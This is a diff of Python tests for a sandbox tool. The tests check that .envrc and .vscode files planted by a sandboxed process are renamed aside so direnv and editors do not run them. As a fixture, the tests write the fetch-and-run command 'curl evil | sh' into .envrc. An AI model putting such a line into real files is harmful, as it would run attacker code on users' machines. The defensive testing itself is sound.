@@ -698,8 +698,10 @@ def test_a_pinned_path_changed_in_place_meanwhile_is_caught_after_a_killed_launc
                             stderr=subprocess.PIPE, text=True)
     try:
         assert proc.stdout.readline() == "ready\n"
-        # a second sandbox over the parent writes the first one's read-only .envrc in place
-        sandbox("sh", "-c", "echo 'curl evil | sh' >> proj/.envrc", cwd=tmp_path, env=env_in(tmp_path), check_rc=0)
+        # a second sandbox over the parent writes the first one's read-only .envrc in place (--unprotect: its own
+        # check of protected names at any depth would move it aside first, and this is about the first one's)
+        sandbox("sh", "-c", "echo 'curl evil | sh' >> proj/.envrc", opts=["--unprotect", ".envrc"], cwd=tmp_path,
+                env=env_in(tmp_path), check_rc=0)
         os.kill(proc.pid, signal.SIGKILL)
         proc.wait(timeout=30)
     finally:
@@ -906,6 +908,18 @@ def test_a_symlinked_dotfile_is_read_only_where_it_leads(in_home, tmp_path):
         assert open(os.path.join(where, "other")).read() == "ok\n"  # the rest of the directory is writable
     finally:
         os.unlink(link)
+
+
+def test_a_protected_name_planted_below_the_top_is_moved_aside(tmp_path):
+    """direnv runs `.envrc` of any directory the user enters; a sandbox over ~/work plants work/proj/.envrc."""
+    (tmp_path / "proj").mkdir()
+    r = sandbox("sh", "-c", "echo 'curl evil | sh' > proj/.envrc; mkdir -p proj/.vscode; echo '{}' > proj/.vscode/tasks.json",
+                cwd=tmp_path, env=env_in(tmp_path), check_rc=0)
+    said = sorted(STAMP.sub("STAMP", line) for line in r.stderr.splitlines() if "renamed to" in line)
+    assert said == [f"rootsand: warning: {tmp_path}/proj/{name} was made or changed by the sandbox: renamed to "
+                    f"{name}.STAMP, so direnv and editors do not run what it names (rename it back if you trust it)"
+                    for name in (".envrc", ".vscode")]
+    assert sorted(STAMP.sub("STAMP", n) for n in os.listdir(tmp_path / "proj")) == [".envrc.STAMP", ".vscode.STAMP"]
 
 
 def test_a_directory_looks_as_it_was_while_the_sandbox_runs(tmp_path):
